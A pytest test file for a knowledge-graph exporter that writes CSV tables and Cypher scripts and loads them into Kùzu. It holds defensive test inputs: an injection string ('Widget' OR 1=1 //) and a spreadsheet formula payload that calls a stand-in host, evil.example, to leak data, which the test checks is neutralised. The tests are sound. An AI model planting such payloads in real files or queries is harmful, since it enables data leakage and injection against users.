"""CSV tables and Cypher scripts: read back by csv, checked against the header, loaded into Kùzu."""

from __future__ import annotations

import csv
import re

import pytest
from test_graph import with_parallel

from kg.errors import ExportError
from kg.graph import to_networkx
from kg.ids import entity_id
from kg.registry import get_exporter


@pytest.fixture()
def folder(tmp_path, sample_kg):
    out = tmp_path / "tables"
    get_exporter("csv").write(with_parallel(sample_kg), out)
    return out


def _rows(path):
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_files_and_rows(folder, sample_kg, awkward_name):
    assert {p.name for p in folder.iterdir()} == {"nodes.csv", "edges.csv", "import.cypher", "kuzu.cypher"}
    graph = to_networkx(with_parallel(sample_kg))
    nodes, edges = _rows(folder / "nodes.csv"), _rows(folder / "edges.csv")
    assert len(nodes) == graph.number_of_nodes() and len(edges) == graph.number_of_edges()
    by_id = {r["id"]: r for r in nodes}
    assert by_id[entity_id("Qdrant")]["labels"] == ":Entity:Product"
    assert by_id[entity_id("Qdrant")]["aliases"] == '["qdrant"]'
    assert by_id[entity_id(awkward_name)]["label"] == awkward_name  # CSV carries newline, quotes, BEL
    assert {r["rel_type"] for r in edges} >= {"COMPETES_WITH", "THREATENS", "ABOUT", "CONTRADICTS"}
    assert all(r["source"] in by_id and r["target"] in by_id for r in edges)
    assert len({r["id"] for r in edges}) == len(edges)


def test_neo4j_script_matches_the_tables(folder):
    script = (folder / "import.cypher").read_text(encoding="utf-8")
    headers = {name: set(_rows(folder / name)[0]) for name in ("nodes.csv", "edges.csv")}
    statements = [s for s in script.split(";\n") if "LOAD CSV" in s]
    assert statements
    for statement in statements:
        source = re.search(r"FROM 'file:///(\w+\.csv)'", statement)[1]
        used = set(re.findall(r"row\.`?(\w+)`?", statement))
        assert used <= headers[source], used - headers[source]
    assert "MERGE (n:`Entity`:`Product` {id: row.id})" in script
    assert "MERGE (n:`Claim` {id: row.id})" in script
    for rel in ("COMPETES_WITH", "THREATENS", "DEPENDS_ON", "DEVELOPED_BY", "ABOUT", "CONTRADICTS"):
        assert f"MERGE (a)-[r:`{rel}` {{id: row.id}}]->(b)" in script
    assert "toFloat(row.`confidence`)" in script and "toBoolean(row.`hedged`)" in script


def test_refuses_to_overwrite_a_file(tmp_path, sample_kg):
    target = tmp_path / "taken"
    target.write_text("x")
    with pytest.raises(ExportError):
        get_exporter("csv").write(sample_kg, target)


def test_kuzu_loads_the_tables_and_answers_competitors(folder, tmp_path, awkward_name):
    kuzu = pytest.importorskip("kuzu")
    from kg.export.tables import load_kuzu

    conn = kuzu.Connection(kuzu.Database(str(tmp_path / "kuzu.db")))
    load_kuzu(folder, conn)

    def rows(query, **params):
        result = conn.execute(query, params)
        out = []
        while result.has_next():
            out.append(result.get_next())
        return out

    competitors = rows("MATCH (a:Entity {name: $name})-[:COMPETES_WITH]-(b:Entity) "
                       "RETURN DISTINCT b.name ORDER BY b.name", name="Qdrant")
    assert competitors == [["Weaviate"], ["pgvector"]]
    assert rows("MATCH (:Entity {name: $name})-[r:COMPETES_WITH]->(:Entity {name: 'pgvector'}) "
                "RETURN count(r)", name="Qdrant") == [[2]], "parallel statements stay separate"
    assert rows("MATCH (a:Entity {name: $name})-[:COMPETES_WITH]-(b) RETURN b.name",
                name="Widget' OR 1=1 //") == []
    threat = rows("MATCH (a:Entity)-[r:THREATENS]->(b:Entity) RETURN a.name, b.name, r.hedged, r.horizon, "
                  "r.confidence")
    assert threat == [["Pinecone", "Qdrant", True, "18 months", pytest.approx(0.9)]]
    priced = rows("MATCH (c:Claim)-[:ABOUT]->(e:Entity) WHERE c.claim_type = 'pricing' "
                  "RETURN e.name, c.value")
    assert priced == [[awkward_name, 20.0]]
    assert rows("MATCH (e:Entity {id: $id}) RETURN e.discovered, e.mentions",
                id=entity_id(awkward_name)) == [[True, 1]]


def test_formula_cells_are_neutralised(tmp_path, sample_kg):
    evil = '=HYPERLINK("http://evil.example/?leak","click")'
    entities = tuple(e.model_copy(update={"name": evil}) if e.id == entity_id("Qdrant") else e
                     for e in sample_kg.entities)
    get_exporter("csv").write(sample_kg.model_copy(update={"entities": entities}), tmp_path / "t")
    nodes = {r["id"]: r for r in _rows(tmp_path / "t" / "nodes.csv")}
    assert nodes[entity_id("Qdrant")]["label"] == "'" + evil
    cells = [c for r in nodes.values() for c in r.values()] + [c for r in _rows(tmp_path / "t" / "edges.csv")
                                                              for c in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
    assert any(c == "'=" for c in cells)  # the pricing comparator "=" is no formula either
